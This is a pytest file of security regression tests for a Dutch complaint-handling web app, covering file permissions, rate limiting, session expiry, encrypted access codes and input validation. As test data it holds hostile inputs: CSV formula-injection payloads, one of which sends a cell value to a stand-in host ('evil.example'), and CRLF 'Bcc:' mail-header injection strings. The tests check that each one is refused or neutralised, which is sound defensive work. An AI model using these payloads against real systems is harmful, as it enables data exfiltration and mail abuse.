"""Issue 14, the probe's findings 2-8: each a reproduction that failed on the code before
the fix (ADR 8, the threat model)."""

from __future__ import annotations

import csv
import gc
import io
import itertools
import os
import stat
import weakref
from datetime import timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import PASSWORD, Harness, Site, Staff, complaint, complaint_fields
from sqlalchemy import update

from runner.bpmn.errors import ValidationFailed
from runner.bpmn.store import transaction
from runner.errors import RateLimited
from runner.procedure import open_klachten
from runner.ratelimit import RateLimit, check_limit
from runner.reports import figures as reports
from runner.store import Dossier, DossierFacts
from web.cli import main


# ----- 8. no cache holding every database session
def test_check_limit_keeps_no_reference_to_the_session(klachten):
    with transaction(klachten.factory) as session:
        check_limit(session, "a", "b", RateLimit(), klachten.clock.now(session))
        watched = weakref.ref(session)
    del session
    gc.collect()
    assert watched() is None


# ----- 3. the instance folder and the SQLite files are the owner's only
@pytest.fixture
def umask_022():
    old = os.umask(0o022)
    yield
    os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_instance_folder_and_database_files_are_private(tmp_path, monkeypatch, umask_022):
    instance = tmp_path / "instance"
    monkeypatch.setenv("KLACHTEN_INSTANCE_PATH", str(instance))
    monkeypatch.delenv("KLACHTEN_DATABASE_URL", raising=False)
    result = CliRunner().invoke(main, ["init"])
    assert result.exit_code == 0, result.output
    assert _mode(instance) == 0o700
    assert _mode(instance / "klachten.db") == 0o600
    from runner.settings import database_url

    klachten = open_klachten(database_url())
    try:  # while a connection is open the WAL files exist
        klachten.deploy()
        Harness(klachten).submit()
        for name in ("klachten.db", "klachten.db-wal", "klachten.db-shm"):
            assert _mode(instance / name) == 0o600, name
    finally:
        klachten.close()


def test_an_existing_lax_database_file_is_tightened(tmp_path, monkeypatch, umask_022):
    instance = tmp_path / "instance"
    instance.mkdir(mode=0o755)
    (instance / "klachten.db").touch(mode=0o644)
    monkeypatch.setenv("KLACHTEN_INSTANCE_PATH", str(instance))
    monkeypatch.delenv("KLACHTEN_DATABASE_URL", raising=False)
    assert CliRunner().invoke(main, ["init"]).exit_code == 0
    assert _mode(instance) == 0o700 and _mode(instance / "klachten.db") == 0o600


# ----- 6. spreadsheet formulas in the CSV export; categories from the model
@pytest.mark.parametrize("value, expected", [
    ("=HYPERLINK(\"https://evil.example\",\"klik\")", "'=HYPERLINK(\"https://evil.example\",\"klik\")"),
    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("terugbetaling", "terugbetaling"), ("2026-03-02", "2026-03-02"),
    ("", ""), ("12", "12"),
])
def test_spreadsheet_safe(value, expected):
    assert reports.spreadsheet_safe(value) == expected


def test_csv_export_neutralises_formulas(staff: Staff, harness: Harness, klachten):
    harness.submit()
    formula = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
    with transaction(klachten.factory) as session:
        session.execute(update(DossierFacts).values(category=formula))
        session.execute(update(Dossier).values(category=formula))
    staff.login("lea")
    exported = staff.get("/bemiddeling/rapporten/dossiers.csv",
                         query_string={"van": "2026-01-01", "tot": "2026-12-31"})
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
    assert rows[1][3] == "'" + formula
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)


def test_submit_refuses_a_category_the_model_does_not_know(klachten):
    with pytest.raises(ValidationFailed) as refused:
        klachten.submit(complaint(categorie="=HYPERLINK(\"https://evil.example\")"))
    assert refused.value.codes == {"categorie": "enum"}
    assert "kies uit" in refused.value.reasons["categorie"]
    with transaction(klachten.factory) as session:
        assert session.query(Dossier).count() == 0


def test_intake_and_api_refuse_an_unknown_category(staff: Staff, client, klachten):
    staff.login("mia")
    page = staff.post("/bemiddeling/intake", {
        "kanaal": "telefoon", "klager.voornaam": "An", "klager.achternaam": "Peeters",
        "categorie": "=1+1", "taal": "nl", "omschrijving": "Te weinig terugbetaald."})
    assert page.status_code == 400
    from runner.accounts.users import Accounts

    token = Accounts(klachten).new_token("mia")
    answer = client.post("/api/v1/klachten", json=complaint(categorie="@SUM(1)"),
                         headers={"Authorization": f"Bearer {token}"})
    assert answer.status_code == 400 and answer.get_json()["codes"] == {"categorie": "enum"}
    with transaction(klachten.factory) as session:
        assert session.query(Dossier).count() == 0


# ----- 2. nobody can lock a member or a mediator out; guessing stays impossible
def _address(index: int) -> dict:
    return {"REMOTE_ADDR": f"203.0.113.{index}"}


def test_member_gets_in_while_an_attacker_hammers_the_dossier(site: Site, klachten):
    number, code = site.file_complaint()
    checked = 0
    for round_ in range(3):
        for index in range(1, 21):  # 20 addresses, 3 wrong codes each
            answer = site.sign_in(number, "AAAA-AAAA-AAAA", environ_base=_address(index))
            assert answer.status_code in (400, 429)
            checked += answer.status_code == 400
        member = site.sign_in(number, code, environ_base={"REMOTE_ADDR": "198.51.100.7"})
        assert member.status_code == 302, round_
    # 10 failures put the number under attack; after that each address got one try.
    assert checked == 20
    attacker = site.sign_in(number, code, environ_base=_address(3))
    assert attacker.status_code == 429  # even the right code, from an address that failed
    klachten.clock.set(klachten.clock.now() + timedelta(minutes=16))
    assert site.sign_in(number, code, environ_base=_address(3)).status_code == 302


def test_a_client_still_has_its_own_limit(site: Site):
    number, code = site.file_complaint()
    for attempt in range(10):
        assert site.sign_in(f"KL-2026-{attempt + 100:05d}", code,
                            environ_base=_address(1)).status_code == 400
    assert site.sign_in(number, code, environ_base=_address(1)).status_code == 429


def test_mediator_logs_in_while_an_attacker_hammers_her_name(staff: Staff, accounts):
    wrong = 0
    for index in range(1, 31):
        answer = staff.login("mia", "fout-wachtwoord!", environ_base=_address(index))
        assert answer.status_code in (400, 429)
        wrong += answer.status_code == 400
        if index % 10 == 0:
            assert staff.login("mia", environ_base={"REMOTE_ADDR": "198.51.100.7"}
                               ).status_code == 302
            staff.post("/logout", {}, form_page="/bemiddeling/taken")
    assert wrong == 30  # one try per fresh address: no address got a second one
    again = staff.login("mia", "fout-wachtwoord!", environ_base=_address(1))
    assert again.status_code == 429
    assert staff.login("mia", environ_base=_address(2)).status_code == 429


def test_login_attacker_from_one_address_is_stopped_after_five(accounts, klachten):
    for _ in range(5):
        with pytest.raises(ValidationFailed):
            accounts.sign_in("mia", "fout-wachtwoord!", "192.0.2.1")
    with pytest.raises(RateLimited):
        accounts.sign_in("nora", "fout-wachtwoord!", "192.0.2.1")
    assert accounts.sign_in("mia", PASSWORD, "192.0.2.2").name == "mia"


# ----- 5. the public form is no mail relay
def _submit(site: Site, email: str, address: int = 1):
    """A complaint with a text of its own (the same text again would be the same
    complaint, not a new one to count)."""
    text = f"Klacht nummer {next(_TEXTS)} over mijn terugbetaling."
    return site.post("/klacht", complaint_fields(**{"klager.email": email, "omschrijving": text}),
                     environ_base=_address(address))


_TEXTS = itertools.count()


def test_submissions_are_throttled_per_client(site: Site, klachten):
    for index in range(5):
        assert _submit(site, f"an{index}@example.be").status_code == 302
    refused = _submit(site, "an9@example.be")
    assert refused.status_code == 429 and "Te veel klachten na elkaar" in refused.get_data(
        as_text=True)
    assert int(refused.headers["Retry-After"]) <= 3601
    elsewhere = _submit(site, "an9@example.be", address=9)
    assert elsewhere.status_code == 302
    klachten.clock.set(klachten.clock.now() + timedelta(hours=1, seconds=1))
    assert _submit(site, "an8@example.be").status_code == 302


def test_submissions_are_throttled_per_target_address(site: Site, klachten):
    for index in range(3):
        assert _submit(site, "Victim@Example.be", index + 1).status_code == 302
    refused = _submit(site, "victim@example.be", 7)
    assert refused.status_code == 429
    with transaction(klachten.factory) as session:
        assert session.query(Dossier).count() == 3


@pytest.mark.parametrize("field, value", [
    ("klager.voornaam", "Beste klant. Uw terugbetaling staat klaar op https://evil.example/x"),
    ("klager.achternaam", "Peeters\r\nBcc: iedereen@example.be"),
    ("klager.achternaam", "zie www.evil.example"),
    ("klager.voornaam", "ga naar evil.example"),
])
def test_names_with_urls_or_line_breaks_are_refused_in_dutch(site: Site, klachten, field, value):
    page = site.submit(**{field: value})
    assert page.status_code == 400
    assert "Vul alleen uw naam in, zonder webadres en op één regel." in page.get_data(
        as_text=True)
    with pytest.raises(ValidationFailed):  # the intake and the API refuse them too
        klachten.submit(complaint(klager={"voornaam": "An", "achternaam": value}))
    with transaction(klachten.factory) as session:
        assert session.query(Dossier).count() == 0


@pytest.mark.parametrize("name", [
    'Jan "x" <evil@evil.example>, ' + "a" * 80 + ", other@evil.example",
    "Beste klant, " + "lang " * 30 + "x@evil.example, y@evil.example",
    "Chloé Dubois-Lefèvre, " + "é" * 60 + " x@evil.example",
    "An\r\nBcc: iedereen@evil.example",
])
def test_a_display_name_never_becomes_another_recipient(klachten, smtp_server, name):
    from smtp_server import outbox_for

    harness = Harness(klachten).submit()
    with transaction(klachten.factory) as session:  # as stored by an older version
        session.execute(update(Dossier).values(complainant_name=name))
    assert outbox_for(klachten, smtp_server).deliver_due().sent == 1
    [message] = smtp_server.messages
    assert [a.addr_spec for a in message["To"].addresses] == ["an.peeters@example.be"]
    assert harness.number in message.get_body(("plain",)).get_content()


def test_display_name_keeps_letters_and_drops_specials():
    from runner.notices.mail import display_name

    assert display_name("Chloé O'Neil-Dubois") == "Chloé O'Neil-Dubois"
    assert display_name('a, "b" <c@d.e>\r\n') == "a b c d e"
    assert len(display_name("x" * 300)) == 64


# ----- 4. no access code in clear at rest
def _database_text(klachten) -> str:
    """Every value of every table, as text."""
    from runner.bpmn.store import Base

    with transaction(klachten.factory) as session:
        return "\n".join(str(tuple(row)) for table in Base.metadata.sorted_tables
                         for row in session.execute(table.select()))


def _stored_anywhere(klachten, database_url: str, code: str) -> bool:
    variants = {code, code.replace("-", "")}
    text = _database_text(klachten)
    if any(v in text for v in variants):
        return True
    if database_url.startswith("sqlite"):
        path = Path(database_url.removeprefix("sqlite:///"))
        raw = b"".join(p.read_bytes() for p in path.parent.glob(path.name + "*"))
        return any(v.encode() in raw for v in variants)
    return False


def test_waiting_e_mail_holds_no_access_code(klachten, database_url, smtp_server):
    from smtp_server import outbox_for

    harness = Harness(klachten).submit()
    assert not _stored_anywhere(klachten, database_url, harness.access_code)
    assert outbox_for(klachten, smtp_server).deliver_due().sent == 1
    [message] = smtp_server.messages
    assert harness.access_code in message.get_body(("plain",)).get_content()
    assert not _stored_anywhere(klachten, database_url, harness.access_code)


def test_letter_waiting_to_be_printed_holds_no_access_code(klachten, database_url):
    from pypdf import PdfReader

    harness = Harness(klachten).submit(klager={"voornaam": "Jan", "achternaam": "Peeters",
                                               "adres": "Kerkstraat 1, 9000 Gent"})
    assert not _stored_anywhere(klachten, database_url, harness.access_code)
    [waiting] = klachten.post.letters_to_print()
    def letter_text() -> str:
        letter = klachten.post.letter(harness.number, waiting["code"])
        return "".join(page.extract_text() for page in PdfReader(io.BytesIO(letter.pdf)).pages)

    assert harness.access_code in letter_text()
    klachten.post.mark_posted(harness.number, waiting["code"], "mia")
    assert harness.access_code not in letter_text()  # a copy made later has no code
    assert not _stored_anywhere(klachten, database_url, harness.access_code)


def test_another_secret_key_cannot_open_the_sealed_code(klachten, database_url, smtp_server):
    from smtp_server import outbox_for


    Harness(klachten).submit()
    other = open_klachten(database_url, clock="virtual", secret="another-key-" + "9" * 32)
    try:
        report = outbox_for(other, smtp_server).deliver_due()
    finally:
        other.close()
    assert report.retrying == 1 and not smtp_server.messages
    assert "KLACHTEN_SECRET_KEY" in report.errors[0]


# ----- 7. sessions end on the server
def _copy_of_cookie(client) -> str:
    return client.get_cookie("session").value


def _with_cookie(app, value: str):
    other = app.test_client()
    other.set_cookie("session", value)
    return other


def _signed_in(client, url: str = "/bemiddeling/taken") -> bool:
    return client.get(url).status_code == 200


def test_a_cookie_saved_before_logout_no_longer_works(app, staff: Staff):
    assert staff.login("mia").status_code == 302
    saved = _copy_of_cookie(staff.client)
    assert _signed_in(_with_cookie(app, saved))  # a copy works while the session lives
    staff.post("/logout", {}, form_page="/bemiddeling/taken")
    assert not _signed_in(staff.client)
    thief = _with_cookie(app, saved)
    answer = thief.get("/bemiddeling/taken")
    assert answer.status_code == 302 and "/login" in answer.headers["Location"]


def test_disabling_and_enabling_does_not_revive_old_sessions(app, staff: Staff, accounts):
    staff.login("mia")
    saved = _copy_of_cookie(staff.client)
    accounts.set_disabled("mia", True)
    accounts.set_disabled("mia", False)
    assert not _signed_in(_with_cookie(app, saved))
    assert not _signed_in(staff.client)
    # Nor the old password (issue 25, item 7): a new one through a single-use link first.
    assert staff.login("mia").status_code == 400
    token = accounts.reset_link("mia", "bert").rpartition("/")[2]
    accounts.reset_password(token, "een-ander-lang-wachtwoord")
    assert staff.login("mia", "een-ander-lang-wachtwoord").status_code == 302
    assert _signed_in(staff.client)


def test_a_session_ends_eight_hours_after_the_login_however_active(staff: Staff, klachten,
                                                                   monkeypatch):
    from runner.accounts import sessions

    wall = {"now": klachten.clock.now()}  # sessions live in real time: a stand-in for it
    monkeypatch.setattr(sessions.wall_clock, "now", lambda: wall["now"])
    staff.login("mia")
    for _ in range(23):  # a request every 20 minutes for 7 h 40
        wall["now"] += timedelta(minutes=20)
        assert _signed_in(staff.client)
    klachten.clock.set(klachten.clock.now() + timedelta(days=30))  # the process clock: no matter
    assert _signed_in(staff.client)
    wall["now"] += timedelta(minutes=21)
    assert not _signed_in(staff.client)


def test_a_copied_status_cookie_stops_working_at_sign_out(app, site: Site):
    number, code = site.file_complaint()
    assert site.sign_in(number, code).status_code == 302
    saved = _copy_of_cookie(site.client)
    assert number in _with_cookie(app, saved).get("/status").get_data(as_text=True)
    site.post("/status/afmelden", {}, form_page="/status")
    page = _with_cookie(app, saved).get("/status").get_data(as_text=True)
    assert number not in page and 'name="toegangscode"' in page


@pytest.fixture
def strict_app(database_url, klachten, accounts, tmp_path):
    """The web app as a fund would configure it stricter (settings, not code)."""
    from web import create_app
    from web.extension import close

    application = create_app({
        "TESTING": True, "DATABASE_URL": database_url, "CLOCK": "virtual",
        "SECRET_KEY": "strict-" + "0123456789abcdef" * 2, "INSTANCE_PATH": str(tmp_path / "strict"),
        "STAFF_SESSION_HOURS": "1", "FORM_PER_ADDRESS_PER_HOUR": "2",
        "FORM_PER_EMAIL_PER_DAY": "1"})
    yield application
    close(application)


def test_the_limits_are_settings(strict_app, klachten, monkeypatch):
    """KLACHTEN_STAFF_SESSION_HOURS=1 signs a mediator out after an hour; the public form's
    quotas follow KLACHTEN_FORM_PER_ADDRESS_PER_HOUR and KLACHTEN_FORM_PER_EMAIL_PER_DAY."""
    from runner.accounts import sessions

    site = Site(strict_app.test_client())
    assert _submit(site, "an@example.be").status_code == 302
    assert _submit(site, "an@example.be", address=2).status_code == 429  # the e-mail's one
    assert _submit(site, "bo@example.be").status_code == 302
    refused = _submit(site, "cas@example.be")
    assert refused.status_code == 429 and "Te veel klachten na elkaar" in refused.get_data(
        as_text=True)
    wall = {"now": klachten.clock.now()}
    monkeypatch.setattr(sessions.wall_clock, "now", lambda: wall["now"])
    staff = Staff(strict_app.test_client())
    assert staff.login("mia").status_code == 302 and _signed_in(staff.client)
    wall["now"] += timedelta(minutes=59)
    assert _signed_in(staff.client)
    wall["now"] += timedelta(minutes=2)
    assert not _signed_in(staff.client)
